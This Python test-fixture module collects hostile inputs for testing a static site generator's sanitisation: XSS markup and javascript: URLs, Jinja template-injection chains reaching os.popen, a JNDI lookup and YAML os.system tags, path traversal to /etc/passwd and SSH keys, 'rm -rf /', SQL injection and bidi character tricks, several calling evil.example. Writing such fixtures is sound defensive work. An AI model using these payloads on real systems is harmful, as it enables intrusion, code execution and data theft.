"""Every hostile string of the tests, in one place.

What acts in them opens a dialog, sets `window.ran` or asks `evil.example` for a file; the tests listen for all three.
"""

from __future__ import annotations

_JS = "window.ran=1,alert(1)"
_SRC = "https://evil.example/x"

HTML = (
    f"<script>{_JS}</script>",
    f"<script src={_SRC}.js></script>",
    f"</title><script>{_JS}</script>",
    f"</script><script>{_JS}</script>",
    f"<img src=x onerror={_JS}>",
    f'"><img src="{_SRC}.png" onerror="{_JS}">',
    f"'><svg/onload={_JS}>",
    f"<svg><script href={_SRC}.js /></svg>",
    f'<iframe srcdoc="<script>{_JS}</script>"></iframe>',
    f"<body onload={_JS}> <details open ontoggle={_JS}>x</details>",
    f'<a href="javascript:{_JS}">press me</a>',
    f'<form action="{_SRC}"><button formaction="javascript:{_JS}">send</button></form>',
    f'<link rel=stylesheet href={_SRC}.css><style>@import "{_SRC}.css"; * {{ display: none }}</style>',
    f'<meta http-equiv=refresh content="0;url={_SRC}"><base href="{_SRC}/">',
    f"<object data={_SRC}></object><embed src={_SRC}><video src={_SRC} autoplay></video>",
    f"<math><mtext></p><style><!--</style><img src=x onerror={_JS}></math>",
    f"<noscript><p title='</noscript><img src=x onerror={_JS}>'></noscript>",
    f"<scr<script>ipt>{_JS}</scr</script>ipt>",
    f"<IMG SRC=x OnErRoR={_JS}> <ScRiPt>{_JS}</sCrIpT>",
    "<!-- a comment that never ends",
    "--> <!-- > -- > --!> <!doctype html><html><head>",
    "]]> <![CDATA[ <b>x</b> ]]> <?php echo 1 ?> <?xml version='1.0'?>",
    "</div></div></article></main></body></html> the end of the page",
    "<textarea> <title> <plaintext> <xmp> <select> <table><tr><td>",
    f"&lt;img src=x onerror={_JS}&gt; &lt;script&gt;{_JS}&lt;/script&gt;",
    f"&amp;lt;img src=x onerror={_JS}&amp;gt; &amp;amp;amp;",
    "&#60;script&#62; &#x3C;b&#x3e; &nbsp; &notin; &bogus; &#0; &#xD800; &#1114112; &",
    f"\" onmouseover=\"{_JS}\" x=\" ' onfocus='{_JS}' autofocus='",
    f"` onclick={_JS} ` \\\" \\' \\",
    "<b>bold</b> <a name=top> <h1>big</h1> <p class=bb-quote data-source=x data-start=0 data-end=1>quoted</p>",
    '<span data-label="mark.source">source</span><span class="bb-editor">an editor</span>',
)
"""Markup, scripts, event handlers, ends of what is open, character references."""

MARKDOWN = (
    f"[press me](javascript:{_JS}) ![x]({_SRC}.png) [y]: {_SRC}",
    f"[press][me] <{_SRC}> {_SRC} [[a wiki link]] [^1] *[HTML]: long",
    "# A heading ## not {: #id .class onclick=window.ran=1 }",
    "{: onclick=window.ran=1 } {#id} {.class} {:toc} {: data-source=x }",
    "**bold** __bold__ *slanted* _slanted_ ~~gone~~ ==marked== ^up^ ~low~ ++added++ ``code``",
    "``` js alert(1) ``` ~~~ js alert(1) ~~~",
    '!!! warning "a box" ??? note ???+ tip /// details | x ::: module.function',
    '--8<-- "../../../etc/passwd" --8<-- "/etc/passwd" ;--8<-- --8<-- "https://evil.example/x"',
    "{++added++} {--gone--} {~~old~>new~~} {==marked==} {>>note<<} {!../../etc/passwd!}",
    "$$ \\unicode{x} \\href{javascript:window.ran=1}{x} $$ $x$ \\(y\\) \\[z\\] $$",
    ":smile: :material-account: :octicons-x-16:{ .big } :::: (c) (tm) -->",
    "- [ ] to do - [x] done * item + item 1. one 2. two > quoted | a | b | --- | :-: |",
    '=== "Tab" ++ctrl+alt+del++ #!python import os `#!js alert(1)` [TOC] [[toc]] \\newpage',
    "--- title: other --- ... %%{init: {}}%% ```mermaid graph TD; ``` <div markdown>*x*</div>",
    "* * * - - - ___ === Heading --- \\* \\_ \\# \\[ \\<b>",
    "http://evil.example/a_b_c www.evil.example someone@evil.example mailto:someone@evil.example",
)
"""What Markdown, its extensions and Material would act on."""

TEMPLATES = (
    "{{ config.site_name }} {{ 7*7 }} {% raw %} {% endraw %} {# a comment #} {{",
    "{% include '/etc/passwd' %} {% for x in range(1000000000) %}{{ x }}{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }} {{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "${7*7} #{7*7} <%= 7*7 %> {{{x}}} %{x} %(x)s {0} {n} {date} {letter} ${jndi:ldap://evil.example/x}",
    "{{page.title}} {{ super() }} {% extends 'main.html' %} {%- block content -%} {{ '{{' }}",
)
"""What Jinja, our labels' slots or another template language would act on."""

YAML = (
    "!!python/object/apply:os.system ['id'] !ENV HOME !!binary x %TAG ! x",
    "&anchor *alias <<: *alias - a: {b: [c, d]} ? key : value",
    "key: value # a comment | > 'single' \"double\" @at `tick` , [] {} null ~ yes 0x1f 1e9 2026-02-03",
    "a: b: c: - - - !!set {x} !!timestamp 2026-02-03",
)
"""What YAML would act on."""

PATHS = (
    "../../../etc/passwd ..\\..\\windows\\system32 /etc/passwd C:\\Windows \\\\host\\share file:///etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd ..%c0%af.. ....// .git/config ~/.ssh/id_rsa $HOME `id` $(id) ; rm -rf /",
    "CON",
    "nul",
    "aux.txt",
    "COM1 lpt9.md",
    "index",
    "page-2",
    ".",
    "..",
    "/",
    "a" * 400,
    "'; DROP TABLE briefings; -- \" OR 1=1",
)
"""Paths, reserved names of Windows, names the site uses itself, a name longer than a file's."""

ADDRESSES = (
    f"javascript:{_JS}",
    f"JaVaScRiPt:{_JS}",
    f"  javascript:{_JS}",
    f"java\\tscript:{_JS}",
    f"&#106;avascript:{_JS}",
    f"javascript&colon;{_JS}",
    f"\\u006aavascript:{_JS}",
    f"javascript://news.example/%0a{_JS}",
    f"data:text/html,<script>{_JS}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"vbscript:{_JS}",
    f"view-source:javascript:{_JS}",
    f"blob:{_SRC}",
    f"feed:javascript:{_JS}",
    "file:///etc/passwd",
    "ftp://news.example/a",
    "//evil.example/x",
    "/etc/passwd",
    "../../../etc/passwd",
    "\\\\evil.example\\x",
    "?a=b",
    "#top",
    "https:",
    "http:/news.example",
    "https://",
    "https://[",
    "https:///x",
    "mailto:",
    "tel:1",
)
"""Addresses that may never become a link."""

LINKS = (
    "https://news.example/?q=<script>alert(1)</script>&x='\"{{1}}[x](y)#`*_|\\",
    "https://news.example/&quot;onclick=window.ran=1",
    "https://user:pass@news.example:8443/%3Cb%3E/../..?javascript:alert(1)",
    "HTTPS://news.example/#javascript:alert(1)",
    "http://xn--80ak6aa92e.example/ünïcode/路",
    "mailto:desk@news.example?subject=<b>&body='\"",
)
"""Odd addresses that do become one."""

CHARACTERS = (
    "nul \x00 bell \x07 backspace \x08 escape \x1b[31mred\x1b[0m delete \x7f",
    "c1 \x80\x85\x9b\x9f soft\xadhyphen no-break\xa0space line\u2028separator paragraph\u2029separator",
    "bidi \u202egnp.exe\u202c \u2066isolate \u2067 \u2068 \u2069 \u200e \u200f \u061c never closed \u202e",
    "zero\u200bwidth\u200cnon\u200djoiner \u2060word \ufeffmark \u180e \u034f \u3164 \u115f",
    "nonchar \ufdd0 \ufffe \uffff \U0001fffe \U0010ffff private \ue000 \U000f0000 replaced \ufffd",
    "tags \U000e0001\U000e0068\U000e0069 variation a\ufe0f \U000e0100 combining Z\u0351\u036b\u0343\u036a\u0302\u036b",
    "a" + "\u0301" * 300,
    "עברית العربية \u0600 ﷽ 𝕱𝖗𝖆𝖐𝖙𝖚𝖗 ＜script＞alert(1)＜/script＞ ‹b› 👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "İ ı ß ŉ ǰ ΐ ﬀ K Å Ω ½ ² ① ٣ e\u0301 \u00e9",
    "\x0b\x0c vertical tab and form feed \x1c\x1d\x1e\x1f separators",
    "“ ” ‘ ’ « » „ ‟ \" ' ` ´ ″ ′ 「 」 — – ― … !!! ??? ,,, ;;; ... …",
)
"""Control, bidirectional, zero-width and other characters that hide, forbid or combine."""

RUNS = tuple(mark * (900 // len(mark)) for mark in ("[", '"', "“", "<", "`", "*_", "{{", "&", "(("))
"""Runs of one mark; `LONG` has the longer ones."""

STRINGS = (*HTML, *MARKDOWN, *TEMPLATES, *YAML, *PATHS, *ADDRESSES, *LINKS, *CHARACTERS, *RUNS)
"""Every string that can stand in a field: on one line, with something to see in it."""

BLOCKS = (
    f"<div>\n\n<script>\n{_JS}\n</script>\n\n</div>",
    f"```html\n<script>{_JS}</script>\n```\n\n~~~\n<img src=x onerror={_JS}>\n~~~",
    "Setext heading\n==============\n\nAnother\n-------\n\n***\n\n    code that is indented\n",
    "| a | b |\n| --- | --- |\n| <b>x</b> | {{ y }} |\n",
    f"[press]: javascript:{_JS} 'x'\n[me]: data:text/html,x\n\n[press] [me] [^n]\n\n[^n]: a note",
    '!!! danger "box"\n    <b>inside</b>\n\n??? note\n    folded\n\n=== "Tab"\n    tabbed',
    "::: module.function\n    options:\n      x: 1\n\n/// details | x\n<b>y</b>\n///",
    '--8<-- "/etc/passwd"\n\n--8<--\n/etc/passwd\n../../mkdocs.yml\n--8<--',
    "<!-- begins\n\nand goes on\n\nfor long",
    "---\ntitle: another\nbriefbook: home\n---\n\n...\n\n%YAML 1.2\n---\n",
    "- a\n    - b\n        - c\n            - <b>d</b>\n\n1. one\n1) two\n\n> > > quoted\n",
    "Term\n:   <b>definition</b>\n\n*[HTML]: long\n\n{: .x onclick=window.ran=1 }\n\n$$\n\\href{x}{y}\n$$",
    "{% raw %}\n\n{{ config }}\n\n{% for x in y %}\n\n{# never closed",
)
"""Texts of several lines."""

UNREADABLE_YAML = (
    "a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\nd: [*c, *c]\n",
    "title: !!python/object/apply:os.system ['touch ran']\n",
    "title: !ENV HOME\n",
    "<<: {title: x}\n",
    "title: " + "[" * 20_000 + "\n",
    "title: " + "{a: " * 5_000 + "\n",
    "- " * 20_000 + "x\n",
    'title: "\\ud800"\n',
    "title: \x07\n",
    "title: x\ntitle: y\n",
    "title: x\n---\ntitle: y\n",
    "title: 'never closed\n",
    "title: [a, b]\n",
    "title: {a: b}\n",
    "title: 2026\n",
    "title: 2026-02-03\npublished: 2026-02-30\n",
    "? [a, b]\n: c\n",
    "\ttitle: tab\n",
    'title: "\u202e\ufeff\n',
    "publish: <script>\n",
    "publish: [full, none]\n",
    "publish:\n",
    "withdrawn: <b>\n",
    "withdrawn: {reason: '', date: 2026-02-03}\n",
    "withdrawn: {reason: x, date: tomorrow}\n",
    "corrected: {note: x}\n",
    "slug: ../../etc\n",
    "slug: con\n",
    "slug: index\n",
    "slug: <b>\n",
    "sections: {<b>: front-status}\n",
    "sections: {x: ../../etc}\n",
    "<script>alert(1)</script>: x\n",
    "just text\n",
    "\x00\x01\x02",
)
"""Sidecars and front matter that are refused with a named problem, the file they are in left out."""

FILE_NAMES = (
    "<script>alert(1)<.txt",
    "<img src=x onerror=alert(1)>.txt",
    '" onclick="window.ran=1.txt',
    "' onclick='window.ran=1.txt",
    "{{ config.site_name }}.txt",
    "{% raw %}.txt",
    "[press](javascript:alert(1)).txt",
    "**bold** _x_ `y`.txt",
    "&lt;b&gt; &amp; &#60;.txt",
    "a\nb.txt",
    "a\rb\tc.txt",
    "bell\x07 escape\x1b[31m.txt",
    "bidi \u202etxt.exe.txt",
    "zero\u200bwidth\ufeff.txt",
    "nonchar\ufdd0\x85\u2028.txt",
    "CON.txt",
    "aux.md.txt",
    "index.txt",
    "README.txt",
    "..txt.txt",
    "back\\slash\\..\\..\\x.txt",
    "C:x.txt",
    "%2e%2e%2fx.txt",
    "trailing. .txt",
    "e\u0301.txt",
    "\u00e9.txt",
    "İ.txt",
    "i\u0307.txt",
    "UPPER.txt",
    "upper.txt",
    "!!python.txt",
    "&anchor *alias.txt",
    "--8<-- x.txt",
    "-rf.txt",
    "~user.txt",
    "$HOME $(id).txt",
    "😀" * 50 + ".txt",
    "x" * 240 + ".txt",
    "<b>folder</b>/{{ x }}/[y](z)/a.txt",
    "con/nul/aux.txt",
    " space /. x/y.txt",
)
"""Names of files and folders below the seeds that hold an article."""

LONG = {
    "brackets": "[" * 10_000,
    "parentheses": "(" * 10_000,
    "closing brackets": "]" * 10_000,
    "links": "[x](" * 5_000,
    "pictures": "![" * 5_000,
    "quotation marks": '"' * 10_000,
    "curly quotation marks": "“" * 10_000,
    "apostrophes": "'" * 10_000,
    "stars": "*" * 10_000,
    "stars and words": "*a " * 5_000,
    "underscores": "_a_" * 4_000,
    "backticks": "`" * 10_000,
    "backticks and words": "`a " * 5_000,
    "less-than signs": "<" * 10_000,
    "tags": "<b>" * 4_000,
    "ampersands": "&" * 10_000,
    "braces": "{{" * 5_000,
    "backslashes": "\\" * 10_000,
    "pipes": "|" * 10_000,
    "stops": "." * 10_000,
    "stops and spaces": ". " * 5_000,
    "commas": "A, " * 4_000,
    "initials": "A. " * 4_000,
    "capitals": "Ab " * 4_000,
    "digits": "9" * 10_000,
    "hyphens": "-" * 10_000,
    "quotation openings": "> " * 5_000,
    "list openings": "- " * 5_000,
    "spaces": "x" + " " * 10_000 + "y",
    "combining marks": "a" + "\u0301" * 10_000,
    "zero-width": "\u200b" * 10_000 + "x",
    "possessives": "Tamm's " * 2_000,
    "footnotes": "[1]" * 4_000,
}
"""Ten thousand of a kind in a row, on one line."""
